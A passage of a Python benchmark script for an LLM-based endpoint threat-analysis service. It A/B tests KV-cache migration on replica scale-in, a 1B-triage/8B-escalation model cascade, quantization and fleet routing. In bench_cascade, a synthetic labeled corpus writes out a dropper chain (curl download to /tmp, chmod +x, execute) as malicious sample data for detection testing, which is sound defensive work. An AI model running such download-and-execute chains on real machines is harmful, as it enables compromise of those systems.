        # one replica dragged by a fixed-latency transport shim (gray:
        # correct answers, closed breaker), gray ejection disabled and
        # hedge delay pinned so the A/B isolates the hedging mechanism
        "overload_backend": "heuristic",
    }


# --------------------------------------------------------------------------
def bench_elastic(params, mcfg, n_sensors: int = 6, depth: int = 3,
                  max_new: int = 12):
    """Elastic scale-in A/B (PR 14): drain-with-migration vs drain-cold.

    Two model replicas with private prefix caches behind the router.
    Warm phase: every sensor chain grows to ``depth`` events, so each
    chain's KV is resident at its affine home.  Event: the replica
    holding the most chains is retired — arm A re-homes it statefully
    (export → CHRMIG wire → import → ack, router.rehome_backend), arm B
    drops it cold (PR-10 semantics: drain + forget, chains re-prefill
    from scratch).  Post phase: every chain sends one more grown event
    to the survivor.  Reports the prefill-token savings the migrated KV
    buys, p99 TTFV during the post-event window for both arms, and the
    lost-chain count (must be 0 in both — migration buys WARMTH, losing
    chains is never on the table)."""
    from chronos_trn.config import (
        CacheConfig,
        EngineConfig,
        FleetConfig,
        ServerConfig,
    )
    from chronos_trn.fleet.pool import ReplicaPool
    from chronos_trn.fleet.router import REHOME_SCALE_IN, FleetRouter
    from chronos_trn.sensor.resilience import UrllibTransport
    from chronos_trn.utils.metrics import GLOBAL as METRICS

    ccfg = CacheConfig(page_size=16, num_pages=256, max_pages_per_seq=16)
    ecfg = EngineConfig(
        max_batch_slots=2, prefill_buckets=(64, 128, 256),
        fused_decode=False, prefix_cache=True, prefix_cache_pages=128,
    )
    preamble = "chronos analyst: assess this endpoint chain.\nEvent chain:\n"
    chains = [
        [f"{e + 1}. ev{e}: pid {7000 + s} exec /usr/bin/stage{s}_{e}"
         for e in range(depth + 1)]
        for s in range(n_sensors)
    ]

    def prompt(s, d):
        return preamble + "\n".join(chains[s][:d])

    def run(migrate_state: bool):
        fcfg = FleetConfig(probe_interval_s=0.0)
        pool = ReplicaPool.model(2, params, mcfg, ccfg, ecfg).start()
        pool.warmup()
        router = FleetRouter(
            pool.remote_backends(fcfg), fleet_cfg=fcfg,
            server_cfg=ServerConfig(host="127.0.0.1", port=0),
        ).start()
        url = f"http://127.0.0.1:{router.port}/api/generate"
        t = UrllibTransport()

        def drive(s, d):
            payload = {"model": "llama3", "prompt": prompt(s, d),
                       "stream": False,
                       "options": {"num_predict": max_new,
                                   "temperature": 0.0}}
            t0 = time.time()
            status, _, body = t.post_json(url, payload, 120.0)
            return status, time.time() - t0, body

        summary = {}
        try:
            # warm phase: every chain to full depth at its affine home
            for d in range(1, depth + 1):
                for s in range(n_sensors):
                    status, _, _ = drive(s, d)
                    assert status == 200, f"warm request failed: {status}"
            router.probe_once()
            directory = router.status()["directory"]
            victim = (max(directory, key=lambda n: directory[n])
                      if directory
                      else sorted(router.status()["backends"])[0])
            if migrate_state:
                summary = router.rehome_backend(
                    victim, reason=REHOME_SCALE_IN) or {}
            router.remove_backend(victim, reason=REHOME_SCALE_IN)
            # post phase: the re-homed chains grow one more event at
            # the survivor — warm if the migration landed, cold if not
            snap0 = METRICS.snapshot()
            ttfv, lost = [], 0
            for s in range(n_sensors):
                status, dt, _ = drive(s, depth + 1)
                ttfv.append(dt)
                if status != 200:
                    lost += 1
            snap = METRICS.snapshot()
            return {
                "hit_tokens": snap.get("prefix_cache_hit_tokens", 0.0)
                - snap0.get("prefix_cache_hit_tokens", 0.0),
                "p99": float(np.percentile(ttfv, 99)),
                "p50": float(np.percentile(ttfv, 50)),
                "lost": lost,
                "migrated_chains": int(summary.get("migrated_chains", 0)),
                "migrated_chunks": int(summary.get("migrated_chunks", 0)),
                "migration_failed": bool(summary.get("failed", False))
                if migrate_state else None,
            }
        finally:
            router.stop()
            pool.stop()

    cold = run(migrate_state=False)
    warm = run(migrate_state=True)
    saved = warm["hit_tokens"] - cold["hit_tokens"]
    return {
        "elastic_n_sensors": n_sensors,
        "elastic_chain_depth": depth,
        "elastic_max_new_tokens": max_new,
        "elastic_migrated_chains": warm["migrated_chains"],
        "elastic_migrated_chunks": warm["migrated_chunks"],
        "elastic_migration_failed": warm["migration_failed"],
        "elastic_hit_tokens_migrate": int(warm["hit_tokens"]),
        "elastic_hit_tokens_cold": int(cold["hit_tokens"]),
        # the headline: prefill tokens the shipped KV saved vs cold
        "elastic_prefill_tokens_saved": int(saved),
        "elastic_p50_ttfv_migrate_s": round(warm["p50"], 5),
        "elastic_p99_ttfv_migrate_s": round(warm["p99"], 5),
        "elastic_p50_ttfv_cold_s": round(cold["p50"], 5),
        "elastic_p99_ttfv_cold_s": round(cold["p99"], 5),
        "elastic_chains_lost": warm["lost"] + cold["lost"],
        # methodology: two model replicas with private prefix caches
        # behind the router over real loopback HTTP; the replica holding
        # the most chains is retired mid-run; arm A ships its KV via the
        # CHRMIG wire (export -> import -> ack), arm B retires it cold;
        # savings = post-event prefix_cache_hit_tokens delta A - B on
        # identical grown prompts against the surviving replica
        "elastic_backend": "model",
    }


def bench_cascade(n_sensors: int = 240, n_1b: int = 2, workers: int = 16):
    """Model-tier cascade A/B (PR 16): all-8B fleet vs 1B triage front
    line with risk-gated 8B escalation, same labeled corpus both arms.

    Arm A (baseline): every replica labeled ``8b`` — single-tier, the
    cascade never activates, every chain pays the big-model rate.  Arm
    B: ``n_1b`` 1B replicas + one 8B; every chain is triaged on 1B and
    only verdicts crossing ``escalate_risk`` (or malformed JSON)
    re-dispatch to 8B.  Reports verdicts/s and p99 TTFV for both arms,
    the cascade's escalation rate, and — the safety gate — the fraction
    of malicious-labeled chains whose FINAL verdict agrees with the
    all-8B arm (must be >= 95%: the cascade buys throughput, missing a
    kill chain is never on the table)."""
    from concurrent.futures import ThreadPoolExecutor

    from chronos_trn.config import FleetConfig, ServerConfig
    from chronos_trn.fleet.pool import ReplicaPool
    from chronos_trn.fleet.router import FleetRouter
    from chronos_trn.sensor.resilience import UrllibTransport

    # labeled corpus, raw chain text (the heuristic analyst scores the
    # text it is given; the full verdict-prompt template names the
    # kill-chain stages in its own instructions and would score hot on
    # every chain).  1/3 dropper kill chains (MALICIOUS), 2/3 benign
    # singles (SAFE); distinct lines per sensor spread the chains over
    # the affinity ring
    corpus = []
    for i in range(n_sensors):
        if i % 3 == 0:
            corpus.append((True,
                           f"[EXEC] bash -> /usr/bin/curl -o /tmp/s{i}.bin\n"
                           f"[EXEC] bash -> /usr/bin/chmod +x /tmp/s{i}.bin\n"
                           f"[EXEC] bash -> /tmp/s{i}.bin"))
        else:
            corpus.append((False, f"[EXEC] cron -> /usr/bin/rotate_{i}"))

    def run(tiers):
        fcfg = FleetConfig(probe_interval_s=0.0)
        pool = ReplicaPool.heuristic(len(tiers), tiers=tiers).start()
        router = FleetRouter(
            pool.remote_backends(fcfg), fleet_cfg=fcfg,
            server_cfg=ServerConfig(host="127.0.0.1", port=0),
        ).start()
        url = f"http://127.0.0.1:{router.port}/api/generate"
        verdicts = [None] * n_sensors
        ttfv = [None] * n_sensors

        def drive(i):
            t = UrllibTransport()
            payload = {"model": "llama3", "prompt": corpus[i][1],
                       "stream": False, "format": "json"}
            t0 = time.time()
            status, _, body = t.post_json(url, payload, 30.0)
            ttfv[i] = time.time() - t0
            if status == 200:
                env = json.loads(body)
                v = json.loads(env["response"])
                v["model_tier"] = env.get("model_tier")
                verdicts[i] = v

        try:
            t0 = time.time()
            with ThreadPoolExecutor(max_workers=workers) as ex:
                list(ex.map(drive, range(n_sensors)))
            wall = time.time() - t0
            cas = router.status()["cascade"]
            lats = [x for x in ttfv if x is not None]
            n_ok = sum(1 for v in verdicts if v is not None)
            return {
                "verdicts": verdicts,
                "verdicts_per_s": round(n_ok / wall, 2),
                "p50": round(float(np.percentile(lats, 50)), 5),
                "p99": round(float(np.percentile(lats, 99)), 5),
                "cascade": cas,
            }
        finally:
            router.stop()
            pool.stop()

    all8b = run(["8b"] * (n_1b + 1))
    casc = run(["1b"] * n_1b + ["8b"])

    mal = [i for i in range(n_sensors) if corpus[i][0]]
    agree = sum(
        1 for i in mal
        if casc["verdicts"][i] is not None and all8b["verdicts"][i] is not None
        and casc["verdicts"][i]["verdict"] == all8b["verdicts"][i]["verdict"])
    agreement = agree / max(1, len(mal))
    esc_rate = casc["cascade"]["escalation_rate"]
    return {
        "cascade_n_sensors": n_sensors,
        "cascade_n_1b": n_1b,
        "cascade_n_8b": 1,
        "cascade_verdicts_per_s": casc["verdicts_per_s"],
        "cascade_p50_ttfv_s": casc["p50"],
        "cascade_p99_ttfv_s": casc["p99"],
        "all8b_verdicts_per_s": all8b["verdicts_per_s"],
        "all8b_p99_ttfv_s": all8b["p99"],
        "cascade_escalations": casc["cascade"]["escalated"],
        "cascade_escalation_rate": esc_rate,
        "cascade_malicious_chains": len(mal),
        "cascade_malicious_agreement": round(agreement, 4),
        "cascade_agreement_ok": agreement >= 0.95,
        # methodology: same labeled corpus both arms over real loopback
        # HTTP (router + replica servers), heuristic analyst personas
        # (1b = recall-biased triage scorer) — the wire + escalation
        # cost IS the measurement; agreement is FINAL verdict vs the
        # all-8B arm on the malicious-labeled subset
        "tier_backend": "heuristic",
        "tier_layout": f"{n_1b}x1b+1x8b",
        "escalate_risk": FleetConfig().escalate_risk,
    }


def main():
    # The one-JSON-line stdout contract: neuronx-cc subprocesses print
    # compile status to fd 1, so park fd 1 on stderr for the whole run
    # and restore it only for the final JSON line.
    import os
    real_stdout = os.dup(1)
    os.dup2(2, 1)

    def emit(obj) -> None:
        # drain anything libraries print()'ed while fd 1 was parked, so
        # it can't flush onto the real stdout ahead of the JSON line,
        # then re-park fd 1 so post-emit stages can't pollute stdout
        sys.stdout.flush()
        os.dup2(real_stdout, 1)
        print(json.dumps(obj), flush=True)
        os.dup2(2, 1)

    ap = argparse.ArgumentParser()
    ap.add_argument("--config", default="auto", choices=["auto", "8b", "1b", "tiny"])
    ap.add_argument("--steps", type=int, default=256,
                    help="decode steps to time (fused: rounded down to chunks)")
    ap.add_argument("--batch", type=int, default=32)
    ap.add_argument("--chunk", type=int, default=16,
                    help="fused decode steps per device dispatch (the "
                         "amortizer for the fixed per-dispatch pool "
                         "relayout — see EngineConfig.decode_chunk)")
    ap.add_argument("--compare", action=argparse.BooleanOptionalAction,
                    default=False,
                    help="also time the per-step path on the same pool "
                         "(compiles its own medium-size graph; default "
                         "OFF — the per-step path is fixed-cost-bound at "
                         "~110 ms/dispatch by the pool relayout, see "
                         "benchmarks/write_probe_r5.json, so the number "
                         "is ~250 tok/s by construction)")
    ap.add_argument("--pipeline", action=argparse.BooleanOptionalAction,
                    default=True,
                    help="also run the verdict-pipeline rows (heuristic + "
                         "MODEL analyst: model_events_per_s, model p50 "
                         "TTFT-to-verdict) AFTER the headline JSON is "
                         "emitted. Default ON (see --compare)")
    ap.add_argument("--prefixcache", action=argparse.BooleanOptionalAction,
                    default=True,
                    help="also run the shared-prefix verdict scenario "
                         "(N sensors x growing chains) with the prefix "
                         "KV cache on vs off AFTER the headline: prefill "
                         "tokens computed, hit rate, output equality")
    ap.add_argument("--semcache", action=argparse.BooleanOptionalAction,
                    default=True,
                    help="also A/B the semantic triage cache on the "
                         "labeled MITRE mini-corpus AFTER the headline: "
                         "hit rate, verdicts/s uplift, p50 TTFV hit vs "
                         "miss, and the malicious-agreement gate (zero "
                         "false-benign short-circuits, enforced under "
                         "--strict-perf)")
    ap.add_argument("--spec", action=argparse.BooleanOptionalAction,
                    default=True,
                    help="also A/B speculative decoding (spec on vs off "
                         "over the 8-sensor repeated-chain workload) "
                         "AFTER the headline: accept rate, mean tokens "
                         "per device step, output byte-equality")
    ap.add_argument("--quant", action=argparse.BooleanOptionalAction,
                    default=True,
                    help="run the HEADLINE engine with weight-only int8 "
                         "quantized params (default ON: this is the serving "
                         "configuration, and the roofline is recomputed from "
                         "the quantized byte count) and, post-emit, rebuild "
                         "the bf16 twin from the same deterministic weights "
                         "for the A/B: speedup, greedy top-1 agreement "
                         "(teacher-forced on the bf16 stream) and verdict "
                         "parity on a fixed chain corpus.  --no-quant "
                         "restores the dense bf16 headline")
    ap.add_argument("--fleet", action=argparse.BooleanOptionalAction,
                    default=True,
                    help="also run the fleet-router rows AFTER the "
                         "headline: 1000 simulated sensors over a "
                         "2-replica heuristic fleet (verdicts/s, p99 "
                         "TTFV, affinity hit-rate) and the model "
                         "cache-parity A/B (fleet prefix-cache hit-rate "
                         "within 10% of single-replica, byte-identical "
                         "verdicts)")
    ap.add_argument("--cascade", action=argparse.BooleanOptionalAction,
                    default=True,
                    help="also A/B the model-tier cascade AFTER the "
                         "headline: all-8B fleet vs 1B triage + "
                         "risk-gated 8B escalation on the same labeled "
                         "corpus (verdicts/s, p99 TTFV both arms, "
                         "escalation rate, malicious-verdict agreement "
                         ">= 95%)")
    ap.add_argument("--overload", action=argparse.BooleanOptionalAction,
                    default=False,
                    help="also run the overload/gray-failure scenario "
                         "AFTER the headline: oversubscribed sensors vs "
                         "a 3-replica fleet with ONE slow (gray) replica, "
                         "hedged requests A/B'd on vs off (p99 TTFV both "
                         "arms, hedge speedup, degraded-verdict fraction, "
                         "zero lost chains)")
    ap.add_argument("--wal", action=argparse.BooleanOptionalAction,
                    default=False,
                    help="also A/B the sensor durability plumbing AFTER "
                         "the headline: the heuristic verdict pipeline "
                         "with the crash-safe WAL spool + chain-window "
                         "checkpoints on vs off (events/s both arms; "
                         "wal_overhead_frac expected < 5% and gated "
                         "there under --strict-perf)")
    ap.add_argument("--elastic", action=argparse.BooleanOptionalAction,
                    default=False,
                    help="also run the elastic scale-in A/B: retire the "
                         "model replica holding the most chains with "
                         "stateful migration (export -> CHRMIG wire -> "
                         "import) vs cold drain; reports prefill-token "
                         "savings, p99 TTFV during the event for both "
                         "arms, zero lost chains")
    ap.add_argument("--trace", action=argparse.BooleanOptionalAction,
                    default=False,
                    help="also A/B the fused decode loop with span "
                         "recording off vs on AFTER the headline and "
                         "print a per-stage p50/p99 breakdown; reports "
                         "trace_overhead_frac and whether tracing-on "
                         "throughput stays within 5% of tracing-off")
    ap.add_argument("--profile", action=argparse.BooleanOptionalAction,
                    default=False,
                    help="also A/B the fused decode loop with the step "
                         "profiler off vs on at 1/64 AFTER the headline, "
                         "and join the per-op roofline table into the "
                         "detail rows; reports profile_overhead_frac and "
                         "whether profiling-on throughput stays within "
                         "5% of profiling-off (gated under --strict-perf)")
    ap.add_argument("--longctx", action=argparse.BooleanOptionalAction,
                    default=False,
                    help="also bench a 4k-context tier (3.2k-token prompt, "
                         "chunked prefill + fused decode) AFTER the "
                         "headline; 8B on-chip only.  Default OFF: the "
                         "4k fused graph is its own multi-hour neuronx-cc "
                         "compile (the step scan unrolls; see "
                         "EngineConfig.decode_chunk)")
    ap.add_argument("--budget", type=float, default=1500.0,
                    help="wall-clock budget (s); post-emit detail stages are "
                         "skipped once exceeded")
    ap.add_argument("--detail-out", default="benchmarks/bench_detail.json",
                    help="where post-emit detail rows are written (stdout "
                         "stays ONE JSON line)")
    ap.add_argument("--ledger", default="PERF_HISTORY.jsonl",
                    help="perf-history ledger (scripts/perf_ledger.py): "
                         "every run appends its headline rows keyed by "
                         "methodology; '' disables")
    ap.add_argument("--strict-perf", action=argparse.BooleanOptionalAction,
                    default=False,
                    help="exit non-zero when a headline field regressed "
                         ">10% vs the previous same-methodology ledger "
                         "row (the detail-file WARN only sees ONE run "
                         "back; the ledger gate sees the trend)")
    ap.add_argument("--platform", default=None,
                    help="force jax platform (cpu for local smoke runs; the "
                         "axon plugin overrides JAX_PLATFORMS env)")
    args = ap.parse_args()
    t_start = time.time()

    def remaining() -> float:
        return args.budget - (time.time() - t_start)

    import jax
    if args.platform:
        jax.config.update("jax_platforms", args.platform)
    platform = jax.devices()[0].platform

    if args.config == "auto":
        ladder = ["8b", "1b", "tiny"] if platform == "neuron" else ["tiny"]
    else:
        ladder = [args.config]

    result, engine, ecfg, cfg = None, None, None, None
    for config_name in ladder:
        try:
            batch = args.batch if config_name != "tiny" else min(args.batch, 8)
            engine, cfg, ccfg, ecfg, platform = build_engine(
                config_name, batch, args.chunk,
                quant_mode="int8" if args.quant else "none",
            )
            result = bench_decode_fused(engine, args.steps)
            result.update(config=cfg.name, platform=platform,
                          n_devices=len(jax.devices()), batch=batch,
                          chunk=ecfg.decode_chunk,
                          quant="int8" if args.quant else "none")
            break
        except Exception as e:
            log(f"[bench] {config_name} failed: {type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
            engine = None
    if result is None:
        emit({"metric": "decode_tokens_per_s", "value": 0.0,
              "unit": "tok/s/chip", "vs_baseline": 0.0,
              "error": "all configs failed"})
        return 1

    aggregate = result["decode_tokens_per_s"]
    # one Trainium2 chip = 8 NeuronCores; normalize so multi-chip hosts
    # don't inflate the per-chip headline
    n_chips = max(1, result["n_devices"] // 8) if result["platform"] == "neuron" else 1
    value = aggregate / n_chips

    # HBM roofline (the honest engineering anchor): batched decode is
    # weight-bound, so the per-chip ceiling is batch / (param_bytes /
    # chip_HBM_bw).  Trainium2: ~360 GB/s per NeuronCore x 8 cores.
    CHIP_HBM_BPS = 8 * 360e9
    param_bytes = sum(
        int(np.prod(t.shape)) * t.dtype.itemsize
        for t in jax.tree.leaves(engine.params)
    )
    roofline = result["batch"] * CHIP_HBM_BPS / param_bytes
    result["roofline_tokens_per_s"] = round(roofline, 1)
    result["roofline_frac"] = round(value / roofline, 4)
    log(f"[bench] roofline (weight-bound, {param_bytes / 1e9:.2f} GB params): "
        f"{roofline:.0f} tok/s/chip -> measured is {value / roofline:.1%}")
    # quant-mode-independent twin series: the SAME weights priced at
    # their dense (scale-dtype) width.  roofline_frac's denominator
    # halves when --quant int8 flips on (by design), so only the
    # bf16-equiv frac keeps r01->rNN one comparable series across
    # quant-mode changes.
    from chronos_trn.core import quant as quant_lib
    from chronos_trn.ops import registry as ops_registry

    bf16_equiv_bytes = quant_lib.bf16_equiv_param_bytes(engine.params)
    roofline_bf16 = result["batch"] * CHIP_HBM_BPS / bf16_equiv_bytes
    result["roofline_frac_bf16_equiv"] = round(value / roofline_bf16, 4)
    # methodology: which implementation served the quantized matmuls —
    # the BASS weight-streaming kernel or the XLA (x@q)*s twin
    result["bass_quant"] = (
        "tile_quant_matmul"
        if result["quant"] != "none" and ops_registry.bass_enabled()
        else "xla"
    )
    # self-describing perf rows (ISSUE 19): whether BASS kernels served
    # this run at all, and the step-profiler cadence that was live while
    # the headline loop ran — both are methodology, so a cpu-twin row or
    # a different sampling cadence never gates a neuron row
    result["bass_enabled"] = ops_registry.bass_enabled()
    from chronos_trn.obs.perf import PROFILER as _PROFILER
    result["profile_sample"] = _PROFILER.sample_every
    # embed gather-table size vs the ~800 MB neuron-rtd single-DMA-ring
    # limit (docs/KERNELS.md "Weight-only int8 quantization"): int8 is
    # what keeps the 8B table under it, so every run logs the number
    embed_leaf = engine.params.get("embed")
    etab = getattr(embed_leaf, "q", embed_leaf)
    embed_bytes = int(np.prod(etab.shape)) * etab.dtype.itemsize
    result["embed_gather_table_bytes"] = embed_bytes
    if embed_bytes > 800e6:
        log(f"[bench] WARNING embed gather table {embed_bytes / 1e6:.0f} MB "
            f"exceeds the ~800 MB neuron-rtd DMA-ring limit — quantize "
            f"the embedding (--quant int8)")
    else:
        log(f"[bench] embed gather table {embed_bytes / 1e6:.0f} MB "
            f"(under the ~800 MB DMA-ring limit)")
    # per-PR regression catch (ROADMAP open item 1): compare against the
    # previous run's detail file BEFORE this run overwrites it, so a
    # roofline_frac slide (the r01->r04 class: 483 -> 394 tok/s, found
    # only at re-anchor) is flagged in the bench output of the PR that
    # caused it
    prev_frac = None
    prev_bf16_frac = None
    prev_quant = None
    try:
        with open(args.detail_out) as f:
            prev = json.load(f)
        # config/frac live under "detail" in the file this block writes
        # (the old top-level read never matched, so the check was dead);
        # raw roofline_frac only compares like-for-like: same tier AND
        # same quant mode — int8-vs-bf16 fracs differ by design (the
        # roofline moved).  A quant-mode change must NOT silently skip
        # the gate (or worse, silently swap the denominator): it falls
        # through to the bf16-equiv series below.
        prev_detail = prev.get("detail") or {}
        if prev_detail.get("config") == result["config"]:
            prev_quant = prev_detail.get("quant", "none")
            if prev_quant == result["quant"]:
                prev_frac = prev_detail.get("roofline_frac")
            else:
                prev_bf16_frac = prev_detail.get("roofline_frac_bf16_equiv")
    except (OSError, ValueError):
        pass  # first run / foreign file: nothing to compare against
    if prev_frac:
        result["roofline_frac_prev"] = prev_frac
        rel = (result["roofline_frac"] - prev_frac) / prev_frac
        if rel < -0.10:
            log(f"[bench] WARNING roofline_frac REGRESSED "
                f"{prev_frac:.1%} -> {result['roofline_frac']:.1%} "
                f"({rel:+.1%} relative) — investigate before merging")
        else:
            log(f"[bench] roofline_frac vs previous run: "
                f"{prev_frac:.1%} -> {result['roofline_frac']:.1%} "
                f"({rel:+.1%} relative)")
    elif prev_bf16_frac:
        # quant mode flipped between runs: refuse the raw comparison
        # (its denominator changed by design) and say so explicitly,
        # then gate on the denominator-stable bf16-equiv series
        result["roofline_frac_bf16_equiv_prev"] = prev_bf16_frac
        rel = (result["roofline_frac_bf16_equiv"] - prev_bf16_frac) \
            / prev_bf16_frac
        log(f"[bench] quant mode changed ({prev_quant} -> "
            f"{result['quant']}): raw roofline_frac is not comparable "
            f"({param_bytes / 1e9:.2f} GB actual vs "
            f"{bf16_equiv_bytes / 1e9:.2f} GB bf16-equiv denominator) — "
            f"gating on roofline_frac_bf16_equiv instead")
        if rel < -0.10:
            log(f"[bench] WARNING roofline_frac_bf16_equiv REGRESSED "
                f"{prev_bf16_frac:.1%} -> "
                f"{result['roofline_frac_bf16_equiv']:.1%} "
                f"({rel:+.1%} relative) — investigate before merging")
        else:
            log(f"[bench] roofline_frac_bf16_equiv across the quant-mode "
                f"change: {prev_bf16_frac:.1%} -> "
                f"{result['roofline_frac_bf16_equiv']:.1%} "
                f"({rel:+.1%} relative)")
    if result["config"] == "llama3-8b":
        metric = "decode_tokens_per_s_per_chip_8b"
        vs = round(value / REFERENCE_8B_TOKS, 3)
    else:
        # smaller tiers are not comparable to the 8B Ollama anchor
        metric = f"decode_tokens_per_s_{result['config']}"
        vs = None
    out = {
        "metric": metric,
        "value": round(value, 2),
        "unit": "tok/s/chip",
        "vs_baseline": vs,
        "detail": {**result, "aggregate_tokens_per_s": aggregate,
                   "n_chips": n_chips, "path": "fused"},
    }
    # EMIT IMMEDIATELY (VERDICT r3 weak #2): the headline number must
    # reach stdout before any optional stage can blow the driver budget.
    emit(out)

    # ---- post-emit detail stages (best-effort, time-bounded) ----------
    detail = dict(out["detail"])
    if args.compare and remaining() > 60:
        try:
            detail.update(bench_decode_perstep(engine, max(16, args.steps // 4)))
        except Exception as e:
            log(f"[bench] per-step compare failed: {e}")
    if args.pipeline and remaining() > 60:
        try:
            detail.update(bench_verdict_pipeline())
            log(f"[bench] heuristic pipeline done")
        except Exception as e:
            log(f"[bench] heuristic pipeline bench failed: {e}")
        if remaining() > 120:
            try:
                detail.update(bench_verdict_pipeline_model(engine, ecfg))
                log(f"[bench] model pipeline done")
            except Exception as e:
                log(f"[bench] model pipeline bench failed: {type(e).__name__}: {e}")
                import traceback
                traceback.print_exc(file=sys.stderr)
        else:
            log("[bench] model pipeline skipped: over budget")
    if args.prefixcache and remaining() > 60:
        try:
            rows = bench_prefix_cache(engine.params, engine.mcfg)
            detail.update(rows)
            log(f"[bench] prefix cache: "
                f"{rows['prefixcache_reduction_frac']:.1%} prefill-token "
                f"reduction, hit rate {rows['prefixcache_hit_rate']:.1%}, "
                f"outputs_match={rows['prefixcache_outputs_match']}")
        except Exception as e:
            log(f"[bench] prefix cache bench failed: {type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
    if args.semcache and remaining() > 60:
        try:
            rows = bench_semcache(engine.params, engine.mcfg)
            detail.update(rows)
            log(f"[bench] semcache: hit rate "
                f"{rows['semcache_hit_rate']:.1%}, verdicts/s "
                f"{rows['semcache_verdicts_per_s_on']:.2f} on vs "
                f"{rows['semcache_verdicts_per_s_off']:.2f} off "
                f"({rows['semcache_verdicts_uplift']:.2f}x), p50 TTFV "
                f"hit {rows['semcache_p50_ttfv_hit_s']}s vs miss "
                f"{rows['semcache_p50_ttfv_miss_s']}s, false-benign "
                f"short-circuits "
                f"{rows['semcache_false_benign_shortcircuits']}")
        except Exception as e:
            log(f"[bench] semcache bench failed: {type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
    if args.spec and remaining() > 60:
        try:
            rows = bench_spec(engine.params, engine.mcfg)
            detail.update(rows)
            log(f"[bench] spec decode: wall {rows['spec_on_wall_s']:.2f}s "
                f"on vs {rows['spec_off_wall_s']:.2f}s off "
                f"({rows['spec_wall_speedup']:.2f}x), "
                f"{rows['spec_on_tokens_per_step']:.2f} tokens/step on "
                f"(off={rows['spec_off_tokens_per_step']:.2f}), accept "
                f"rate {rows['spec_accept_rate']:.1%}, verify width "
                f"{rows['spec_batch_verify_width']:.1f}, "
                f"outputs_match={rows['spec_outputs_match']}")
        except Exception as e:
            log(f"[bench] spec bench failed: {type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
    if args.quant and remaining() > 90:
        try:
            rows = bench_quant_ab(engine, result["config"],
                                  result["batch"], ecfg.decode_chunk,
                                  max(16, args.steps // 4))
            rows["quant_tokens_per_s"] = result["decode_tokens_per_s"]
            rows["quant_speedup"] = round(
                result["decode_tokens_per_s"]
                / max(1e-9, rows["quant_bf16_tokens_per_s"]), 3)
            detail.update(rows)
            log(f"[bench] quant: int8 {rows['quant_tokens_per_s']:.1f} vs "
                f"bf16 {rows['quant_bf16_tokens_per_s']:.1f} tok/s "
                f"({rows['quant_speedup']:.2f}x, bytes x"
                f"{rows['quant_bytes_ratio']:.2f}), top-1 agreement "
                f"{rows['quant_top1_agreement']:.1%} over "
                f"{rows['quant_agreement_positions']} positions, verdict "
                f"parity {rows['quant_verdict_parity']:.1%} on "
                f"{rows['quant_verdict_chains']} chains")
        except Exception as e:
            log(f"[bench] quant A/B failed: {type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
    if args.fleet and remaining() > 60:
        try:
            rows = bench_fleet_heuristic()
            detail.update(rows)
            log(f"[bench] fleet: {rows['fleet_verdicts_per_s']:.0f} "
                f"verdicts/s over {rows['fleet_n_replicas']} replicas, "
                f"p99 TTFV {rows['fleet_p99_ttfv_s'] * 1000:.1f} ms, "
                f"affinity hit-rate {rows['fleet_affinity_hit_rate']:.1%}, "
                f"spillovers={rows['fleet_spillovers']}")
        except Exception as e:
            log(f"[bench] fleet bench failed: {type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
        if remaining() > 120:
            try:
                rows = bench_fleet_model(engine.params, engine.mcfg)
                detail.update(rows)
                log(f"[bench] fleet model parity: fleet hit-rate "
                    f"{rows['fleetmodel_fleet_hit_rate']:.1%} vs single "
                    f"{rows['fleetmodel_single_hit_rate']:.1%} "
                    f"(within_10pct="
                    f"{rows['fleetmodel_hit_rate_within_10pct']}), "
                    f"outputs_match={rows['fleetmodel_outputs_match']}")
            except Exception as e:
                log(f"[bench] fleet model bench failed: "
                    f"{type(e).__name__}: {e}")
                import traceback
                traceback.print_exc(file=sys.stderr)
        else:
            log("[bench] fleet model parity skipped: over budget")
    if args.cascade and remaining() > 60:
        try:
            rows = bench_cascade()
            detail.update(rows)
            log(f"[bench] cascade: {rows['cascade_verdicts_per_s']:.0f} "
                f"verdicts/s ({rows['cascade_n_1b']}x1B+1x8B) vs "
                f"{rows['all8b_verdicts_per_s']:.0f} all-8B, p99 TTFV "
                f"{rows['cascade_p99_ttfv_s'] * 1000:.1f} ms vs "
                f"{rows['all8b_p99_ttfv_s'] * 1000:.1f} ms, escalation "
                f"rate {rows['cascade_escalation_rate']:.1%} "
                f"({rows['cascade_escalations']} of "
                f"{rows['cascade_n_sensors']}), malicious agreement "
                f"{rows['cascade_malicious_agreement']:.1%} over "
                f"{rows['cascade_malicious_chains']} chains "
                f"(ok={rows['cascade_agreement_ok']})")
            if not rows["cascade_agreement_ok"]:
                log("[bench] WARNING cascade malicious-verdict agreement "
                    "below 95% — the 1B triage gate is missing kill "
                    "chains the 8B analyst flags")
        except Exception as e:
            log(f"[bench] cascade bench failed: {type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
    if args.overload and remaining() > 60:
        try:
            rows = bench_overload()
            detail.update(rows)
            log(f"[bench] overload: p99 TTFV hedged "
                f"{rows['overload_p99_ttfv_hedged_s'] * 1000:.1f} ms vs "
                f"unhedged "
                f"{rows['overload_p99_ttfv_unhedged_s'] * 1000:.1f} ms "
                f"({rows['overload_hedge_p99_speedup']:.2f}x), hedges "
                f"fired={rows['overload_hedges_fired']} "
                f"won={rows['overload_hedges_won']}, degraded fraction "
                f"{rows['overload_degraded_fraction']:.1%}, lost chains="
                f"{rows['overload_lost_chains']}, affinity "
                f"{rows['overload_affinity_rate_hedged']:.1%} vs "
                f"{rows['overload_affinity_rate_unhedged']:.1%} "
                f"(within_10pct="
                f"{rows['overload_affinity_within_10pct']})")
        except Exception as e:
            log(f"[bench] overload bench failed: {type(e).__name__}: {e}")
            import traceback
            traceback.print_exc(file=sys.stderr)
    if args.wal and remaining() > 60:
        try:
            rows = bench_wal_ab()
            detail.update(rows)
            log(f"[bench] wal: {rows['wal_events_per_s_on']:.0f} events/s "
                f"durable vs {rows['wal_events_per_s_off']:.0f} off "
                f"(overhead {rows['wal_overhead_frac']:.1%}, within_5pct="
                f"{rows['wal_within_5pct']}, {rows['wal_dir_bytes']} bytes "
                f"on disk, checkpoint every "
                f"{rows['wal_checkpoint_interval_events']} events)")
            if not rows["wal_within_5pct"]:
                log("[bench] WARNING WAL overhead >= 5% — durability must "
                    "stay cheap enough to leave on; check fsync batching "
